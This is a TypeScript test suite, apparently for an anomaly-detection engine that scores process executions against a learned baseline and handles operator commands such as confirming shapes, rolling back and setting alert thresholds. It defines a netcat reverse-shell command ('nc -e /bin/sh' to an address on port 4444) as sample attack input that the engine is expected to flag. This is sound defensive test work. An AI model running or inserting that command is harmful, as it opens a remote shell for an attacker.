import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { shapeOf } from '@vedette/executions';

import type { Command } from '../command.ts';
import type { JournalRecord } from '../journal/journal.ts';
import { EngineScene } from './testing/engine-scene.ts';
import { commandOf, execution } from './testing/records.ts';
import { foldEntries, LEARNED, NOON_MS, ran, startedEngine } from './testing/small-journal.ts';

const DAY_MS = 86_400_000;
const ATTACK = 'nc -e /bin/sh 10.0.0.1 4444';

const shapeKey = (command: string): string => shapeOf(execution(command)).key;
const lastScore = (scene: EngineScene): number => scene.events.rows.at(-1)?.score ?? -1;

describe('an event', () => {
  test('is scored against its workload, stored with its finding, and told about', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const position = await foldEntries(scene, engine, [ran('ls -l'), ran(ATTACK)]);
    await engine.stored(position);
    const [known, attack] = scene.events.rows.slice(-2);
    assert.equal(known?.score, 0);
    assert.equal(known?.finding, null);
    assert.ok(attack?.score !== null && attack?.score !== undefined && attack.score >= 0.8);
    const [finding] = engine.findings('o');
    assert.equal(attack.finding, finding?.id);
    assert.equal(attack.threshold, 0.8);
    await engine.close();
    assert.deepEqual(
      scene.told.map(({ kind, finding: { id } }) => [kind, id]),
      [['opened', finding?.id]],
    );
  });

  test('of a kind that is nothing that is done is stored without a score', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const exit = ran('ls -l', NOON_MS, { kind: 'exit', exitCode: 0 });
    const failed = ran(ATTACK, NOON_MS, { kind: 'exec-failed', errno: 2 });
    await engine.stored(await foldEntries(scene, engine, [exit, failed]));
    assert.deepEqual(
      scene.events.rows.slice(-2).map(({ score, shape }) => [score, shape]),
      [
        [null, null],
        [null, null],
      ],
    );
    assert.equal(engine.findings('o').length, 0);
    await engine.close();
  });

  test('of a program that begins to talk to somebody new is scored by its network end', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const to = (address: string, port: number): JournalRecord =>
      ran('node', NOON_MS, {
        ...{ kind: 'connect', argv: [], exe: '/usr/bin/node', comm: 'node' },
        endpoint: { protocol: 'tcp', address, port },
      });
    await engine.stored(await foldEntries(scene, engine, [to('93.184.216.34', 4444)]));
    const [row] = scene.events.rows.slice(-1);
    assert.ok((row?.score ?? 0) > 0.5, String(row?.score));
    assert.ok(row?.reasons.some(({ code }) => code === 'network-new'));
    await engine.close();
  });

  test('of a batch that comes again changes nothing', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const before = engine.workload('o', 'web');
    await engine.stored(await foldEntries(scene, engine, [LEARNED[0] ?? ran('ls')]));
    assert.deepEqual(engine.workload('o', 'web'), before);
    assert.equal(scene.events.rows.length, 60);
    assert.equal(engine.status().counters['repeatedBatches'], 1);
    assert.ok(engine.knowsBatch('o', 'b'));
    assert.ok(!engine.knowsBatch('other', 'b'));
    await engine.close();
  });
});

describe('what a person asks for', () => {
  const asked = (command: Command, at = NOON_MS): JournalRecord => commandOf(command, at);

  test('confirms and forgets a shape, and is in the log of the baseline', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const shape = shapeKey(ATTACK);
    const steps: readonly [JournalRecord, (score: number) => boolean][] = [
      [ran(ATTACK), (score) => score >= 0.8],
      [asked({ do: 'confirm-shape', workload: 'web', shape }), () => true],
      [ran(ATTACK), (score) => score < 0.05],
      [asked({ do: 'forget-shape', workload: 'web', shape }), () => true],
      [ran(ATTACK), (score) => score >= 0.8],
    ];
    for (const [record, holds] of steps) {
      await engine.stored(await foldEntries(scene, engine, [record]));
      assert.ok(holds(lastScore(scene)), String(lastScore(scene)));
    }
    const changes = engine.workload('o', 'web')?.changes.map(({ what, by }) => [what, by]);
    assert.deepEqual(changes, [
      ['learning-ended', 'ops'],
      ['confirmed', 'ops'],
      ['forgotten', 'ops'],
    ]);
    await engine.close();
  });

  test('takes back what was learned since a day', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const before = engine.workload('o', 'web')?.shapes;
    const later = NOON_MS + DAY_MS;
    await foldEntries(scene, engine, [ran('make -C /srv/app', later)]);
    assert.equal(engine.workload('o', 'web')?.shapes.length, 4);
    await foldEntries(scene, engine, [
      asked({ do: 'roll-back', workload: 'web', toMs: later }, later),
    ]);
    assert.deepEqual(engine.workload('o', 'web')?.shapes, before);
    await engine.close();
  });

  test('sets the threshold of a workload, and gives it back', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const [found] = [await foldEntries(scene, engine, [ran('node /srv/other.js --dry-run')])];
    assert.ok(found > 0);
    assert.equal(engine.findings('o').length, 0);
    const alerting = { threshold: 0.3 };
    await foldEntries(scene, engine, [asked({ do: 'set-alerting', workload: 'web', alerting })]);
    assert.equal(engine.workloads('o')[0]?.threshold, 0.3);
    await foldEntries(scene, engine, [ran('node /srv/third.js --dry-run --force')]);
    assert.equal(engine.findings('o').length, 1);
    await foldEntries(scene, engine, [
      asked({ do: 'set-alerting', workload: 'web', alerting: null }),
    ]);
    assert.equal(engine.workloads('o')[0]?.threshold, 0.8);
    await engine.close();
  });

  test('may be tried before it is asked for, and shapes say what is thought of them', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene, [...LEARNED, ran('ls -l'), ran(ATTACK)]);
    assert.equal(engine.thresholdBy('o', 'web', { threshold: 0.33 }), 0.33);
    assert.equal(engine.thresholdBy('o', 'web', null), 0.8);
    assert.ok((engine.thresholdBy('o', 'web', { alertsPerDay: 1 }) ?? 0) > 0);
    assert.equal(engine.thresholdBy('o', 'none', null), undefined);
    assert.equal(engine.thresholdBy('other', 'web', null), undefined);
    const counts = (): (number | undefined)[] => {
      const { shapes, confirmed, pending, threshold } = engine.workloads('o')[0] ?? {};
      return [shapes, confirmed, pending, threshold];
    };
    assert.deepEqual(counts(), [4, 0, 1, 0.8]);
    const confirm: Command = { do: 'confirm-shape', workload: 'web', shape: shapeKey(ATTACK) };
    await foldEntries(scene, engine, [commandOf(confirm, NOON_MS)]);
    assert.deepEqual(counts(), [4, 1, 0, 0.8]);
    await engine.close();
  });

  test('lets train what was alerted about, once it is acknowledged', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const scores: number[] = [];
    for (let day = 0; day < 3; day += 1) {
      await engine.stored(await foldEntries(scene, engine, [ran(ATTACK, NOON_MS + day * DAY_MS)]));
      scores.push(lastScore(scene));
    }
    assert.equal(new Set(scores).size, 1);
    const finding = engine.findings('o')[0]?.id ?? '';
    await foldEntries(scene, engine, [asked({ do: 'acknowledge', finding }, NOON_MS + 2 * DAY_MS)]);
    await engine.stored(await foldEntries(scene, engine, [ran(ATTACK, NOON_MS + 2 * DAY_MS + 1)]));
    assert.ok(lastScore(scene) < (scores[0] ?? 0));
    await engine.close();
  });

  test('about what is not there is counted', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    await foldEntries(scene, engine, [asked({ do: 'end-learning', workload: 'none' })]);
    assert.equal(engine.status().counters['idleCommands'], 1);
    await engine.close();
  });
});

describe('time', () => {
  /** One batch on each of so many days. */
  const daily = (days: number): JournalRecord[] =>
    Array.from({ length: days }, (_, day) => ran('ls -l', NOON_MS + (day + 1) * DAY_MS));

  test('forgets what was not seen for a week, and a workload of which nothing is left', async () => {
    await using scene = await EngineScene.open();
    const once = ran('ls', NOON_MS, { workload: 'gone' });
    const engine = await startedEngine(scene, [...LEARNED, once, ...daily(7)]);
    assert.equal(engine.workload('o', 'web')?.shapes.length, 3);
    await foldEntries(scene, engine, [ran('ls -l', NOON_MS + 8 * DAY_MS)]);
    assert.equal(engine.workload('o', 'web')?.shapes.length, 1);
    assert.equal(engine.workload('o', 'gone'), undefined);
    const again = ran('ls -a', NOON_MS + 8 * DAY_MS, { workload: 'gone' });
    await foldEntries(scene, engine, [again]);
    await engine.close();
    const next = scene.engine();
    await next.start();
    assert.equal(next.workload('o', 'gone')?.shapes.length, 1);
    assert.equal(next.workload('o', 'web')?.shapes.length, 1);
    await next.close();
  });

  test('in which nothing was received forgets nothing, nor does a clock that jumps and is put right', async () => {
    await using scene = await EngineScene.open();
    const engine = await startedEngine(scene);
    const years = NOON_MS + 70 * 365 * DAY_MS;
    const back = NOON_MS + 40 * DAY_MS;
    await foldEntries(scene, engine, [
      ran('ls -l', NOON_MS + 30 * DAY_MS),
      ran('ls -l', years),
      ran('ls -l', back),
    ]);
    assert.equal(engine.workload('o', 'web')?.shapes.length, 3);
    await foldEntries(scene, engine, [
      commandOf({ do: 'roll-back', workload: 'web', toMs: back }, back),
    ]);
    assert.equal(engine.workload('o', 'web')?.changes.at(-1)?.timeMs, back);
    await engine.close();
  });

  test('keeps the state that a checkpoint has when a name comes back before the next', async () => {
    await using scene = await EngineScene.open();
    const once = ran('ls', NOON_MS, { workload: 'gone' });
    const first = await startedEngine(scene, [...LEARNED, once, ...daily(7)]);
    await first.close();
    const second = scene.engine();
    await second.start();
    const later = NOON_MS + 9 * DAY_MS;
    const again = ran('ls -a', later, { workload: 'gone' });
    await foldEntries(scene, second, [ran('ls -l', later), again]);
    assert.deepEqual(
      second.workload('o', 'gone')?.shapes.map(({ argv }) => argv.join(' ')),
      ['ls -a'],
    );
    await second.close({ graceMs: 0 });
    const third = scene.engine();
    await third.start();
    await third.settled(scene.journal.end);
    assert.deepEqual(third.workload('o', 'gone')?.shapes, second.workload('o', 'gone')?.shapes);
    await third.close();
  });
});
